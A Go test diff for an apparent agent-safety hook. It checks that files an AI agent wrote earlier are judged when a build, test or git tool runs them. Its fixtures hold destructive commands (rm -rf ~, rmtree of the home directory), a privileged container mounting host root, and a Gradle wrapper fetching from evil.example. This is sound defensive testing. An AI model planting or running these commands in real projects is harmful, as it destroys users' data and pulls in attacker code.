@@ -71,3 +71,98 @@ func (l ledgerOf) Of(path string) (origin.Move, error) {
 	return origin.Move{Path: path, Secret: l.secrets[path]}, nil
 }
 func (l ledgerOf) Written() ([]string, error) { return l.written, nil }
+
+// A recipe is a file, a line of which a tool reads it, and what of the file is asked.
+type recipe struct{ file, line, harmful, honest string }
+
+var recipes = []recipe{
+	{"Makefile", "make", "all:\n\trm -rf ~\n", "all: deps\n\tgo build -o bin/x ./...\ndeps:\n\tgo mod download\nnuke:\n\trm -rf ~\n"},
+	{"Makefile", "make -C . nuke X=1", "all:\n\tls\nnuke: pre\npre:\n\trm -rf $(HOME)\n", "nuke:\n\trm -rf build\n"},
+	{"sub/Makefile", "make -C sub", "all:\n\trm -rf ~\n", "all:\n\tls\n"},
+	{"more.mk", "make", "x:\n\trm -rf ~\nall: x\n", "x:\n\tls\n"},
+	{"justfile", "just", "default: clean\n\nclean:\n    rm -rf ~\n", "default:\n    cargo test\n\n# for nobody\nnuke:\n    rm -rf ~\n"},
+	{"justfile", "just clean", "clean:\n    #!/usr/bin/env bash\n    set -e\n    rm -rf ~\n", "alias c := clean\nclean dir='build':\n    rm -rf {{dir}}\n"},
+	{"Taskfile.yml", "task build", "version: '3'\ntasks:\n  build:\n    deps: [gen]\n    cmds:\n      - task: other\n      - echo done\n  gen:\n    cmds:\n      - rm -rf ~\n",
+		"version: '3'\ntasks:\n  build:\n    cmds:\n      - go build ./...\n  nuke:\n    cmds:\n      - rm -rf ~\n"},
+	{"package.json", "npm install", `{"scripts": {"postinstall": "rm -rf ~"}}`, `{"scripts": {"postinstall": "husky", "nuke": "rm -rf ~"}}`},
+	{"package.json", "pnpm run build", `{"scripts": {"build": "rm -rf ~"}}`, `{"scripts": {"build": "vite build", "nuke": "rm -rf ~"}}`},
+	{"package.json", "bun run build", `{"scripts": {"prebuild": "rm -rf ~", "build": "ls"}}`, `{"scripts": {"build": "vite build"}}`},
+	{"vite.config.js", "vite build", "require('child_process').execSync('rm -rf ~')\n", "export default { build: { outDir: 'dist' } }\n"},
+	{"build.rs", "cargo build", "fn main() { std::process::Command::new(\"rm\").arg(\"-rf\").arg(\"/home/dev\").status(); }\n", "fn main() { println!(\"cargo:rerun-if-changed=build.rs\"); }\n"},
+	{".cargo/config.toml", "cargo test", "[target.x86_64-unknown-linux-gnu]\nrunner = \"rm -rf /home/dev\"\n", "[build]\nrustc-wrapper = \"sccache\"\n[target.x]\nlinker = \"clang\"\n"},
+	{"conftest.py", "pytest -q", "import shutil\nshutil.rmtree('/home/dev')\n", "import pytest\n\n@pytest.fixture\ndef db(tmp_path):\n    return tmp_path / 'x'\n"},
+	{"tests/conftest.py", "pytest", "import os\nos.system('rm -rf ~')\n", "import os\nos.environ['X'] = '1'\n"},
+	{"tox.ini", "tox", "[testenv]\ncommands =\n    rm -rf /home/dev\n", "[testenv]\ncommands =\n    pytest {posargs}\n"},
+	{"noxfile.py", "nox -s tests", "import shutil\nshutil.rmtree('/home/dev')\n", "import nox\n\n@nox.session\ndef tests(session):\n    session.run('pytest')\n"},
+	{"setup.py", "pip install -e .", "import os\nos.system('rm -rf ~')\n", "from setuptools import setup\nsetup(name='x')\n"},
+	{"pyproject.toml", "poe clean", "[tool.poe.tasks]\nclean = \"rm -rf /home/dev\"\n", "[tool.poe.tasks]\nclean = \"rm -rf build\"\n"},
+	{"build.gradle", "./gradlew build", "\"rm -rf /home/dev\".execute()\n", "plugins { id 'java' }\n"},
+	{"gradle/wrapper/gradle-wrapper.properties", "./gradlew build", "distributionUrl=https\\://evil.example/gradle.zip\n", "distributionUrl=https\\://services.gradle.org/distributions/gradle-8.9-bin.zip\n"},
+	{"pom.xml", "mvn verify", "<configuration><executable>rm</executable><arguments><argument>-rf</argument><argument>${user.home}</argument></arguments></configuration>\n",
+		"<configuration><executable>node</executable><arguments><argument>build.js</argument></arguments></configuration>\n"},
+	{"composer.json", "composer install", `{"scripts": {"post-install-cmd": "rm -rf ~"}}`, `{"scripts": {"post-install-cmd": "phpunit"}}`},
+	{"Rakefile", "rake", "task :default do\n  sh 'rm -rf ~'\nend\n", "task :default do\n  sh 'rspec'\nend\n"},
+	{"Gemfile", "bundle install", "system('rm -rf ~')\n", "source 'https://rubygems.org'\ngem 'rails'\n"},
+	{"gen.go", "go generate ./...", "package x\n\n//go:generate rm -rf /home/dev\n", "package x\n\n//go:generate stringer -type=T\n"},
+	{"x_test.go", "go test ./...", "package x\nfunc TestX(t *T) { os.RemoveAll(\"/home/dev\") }\n", "package x\n\n//go:generate rm -rf /home/dev\n"},
+	{".husky/pre-commit", "git commit -m x", "rm -rf ~\n", "npx --no-install lint-staged\n"},
+	{".git/hooks/pre-push", "git push origin feature", "#!/bin/sh\nrm -rf ~\n", "#!/bin/sh\ngo test ./...\n"},
+	{".git/hooks/post-commit", "git commit -m x", "#!/usr/bin/env python3\nimport shutil\nshutil.rmtree('/home/dev')\n", "#!/bin/sh\nexit 0\n"},
+	{"hooks/pre-commit", "git config core.hooksPath hooks; git commit -m x", "rm -rf ~\n", "gofmt -l .\n"},
+	{".pre-commit-config.yaml", "pre-commit run", "repos:\n- repo: local\n  hooks:\n  - id: x\n    entry: rm -rf /home/dev\n", "repos:\n- repo: local\n  hooks:\n  - id: x\n    entry: gofmt -l\n"},
+	{"lefthook.yml", "lefthook run pre-commit", "pre-commit:\n  commands:\n    x:\n      run: rm -rf ~\n", "pre-commit:\n  commands:\n    x:\n      run: gofmt -l .\n"},
+	{".envrc", "direnv reload", "rm -rf ~\n", "export X=1\n"},
+	{"compose.yaml", "docker compose up", "services:\n  x:\n    image: alpine\n    privileged: true\n    volumes:\n      - /:/host\n", "services:\n  x:\n    image: alpine\n    volumes:\n      - ./data:/data\n"},
+	{"main.tf", "terraform apply", "resource \"null_resource\" \"x\" {\n  provisioner \"local-exec\" {\n    command = \"rm -rf ~\"\n  }\n}\n", "resource \"null_resource\" \"x\" {\n  provisioner \"local-exec\" {\n    command = \"echo hi\"\n  }\n}\n"},
+	{"main.tf", "terraform apply", "provisioner \"local-exec\" {\n  command = <<-EOT\n    rm -rf ~\n  EOT\n}\n", "provisioner \"local-exec\" {\n  command = <<EOT\nls\nEOT\n}\n"},
+	{"site.yml", "ansible-playbook site.yml", "- hosts: localhost\n  tasks:\n  - name: x\n    shell: rm -rf ~\n", "- hosts: localhost\n  tasks:\n  - name: x\n    command: ls\n"},
+	{".github/workflows/ci.yml", "act push", "jobs:\n  x:\n    steps:\n    - run: rm -rf ~\n", "jobs:\n  x:\n    steps:\n    - run: go test ./...\n"},
+}
+
+// harms reports an effect that the honest files of the table do not have.
+func harms(f *hook.Facts) bool {
+	for _, e := range f.Effects {
+		switch is := e.Is.(type) {
+		case *hook.FSDelete:
+			if is.Area == "home" {
+				return true
+			}
+		case *hook.Container:
+			if is.Privileged {
+				return true
+			}
+		case *hook.ExecRemote:
+			return true
+		}
+	}
+	return false
+}
+
+// TestWrittenThenRun has a file that an earlier call wrote be judged when a tool reads it.
+func TestWrittenThenRun(t *testing.T) {
+	of := func(c recipe, text string, written ...string) *hook.Facts {
+		there := files{"/p/" + c.file: text, "/p/.git/HEAD": "ref: refs/heads/x", "/p/x.py": "import os\nos.system('rm -rf ~')\n"}
+		if c.file == "more.mk" {
+			there["/p/Makefile"] = "all:\ninclude more.mk\n"
+		}
+		left := ledgerOf{written: written}
+		w := facts.World{Home: "/home/dev", Project: "/p", OS: "linux", Files: there, Ledger: func(string, string) origin.Ledger { return left }}
+		return facts.New(w).Of(toolEvent("Bash", map[string]any{"command": c.line}))
+	}
+	for _, c := range recipes {
+		if f := of(c, c.harmful, "/p/"+c.file); !harms(f) {
+			t.Errorf("%s by %s: what an agent wrote is not judged", c.file, c.line)
+		}
+		for _, written := range [][]string{nil, {"/p/" + c.file}} {
+			if f := of(c, c.honest, written...); harms(f) || len(f.Unknown) > 0 {
+				t.Errorf("%s by %s, written %v: %v %+v", c.file, c.line, written, harms(f), f.Unknown)
+			}
+		}
+	}
+	if f := of(recipe{file: "conftest.py", line: "pytest"}, "import x\n", "/p/conftest.py", "/p/x.py"); !harms(f) {
+		t.Error("what a written file loads is not judged")
+	}
+	if f := of(recipe{file: "Makefile", line: "make -n"}, "all:\n\trm -rf ~\n", "/p/Makefile"); harms(f) {
+		t.Error("make -n runs nothing")
+	}
+}
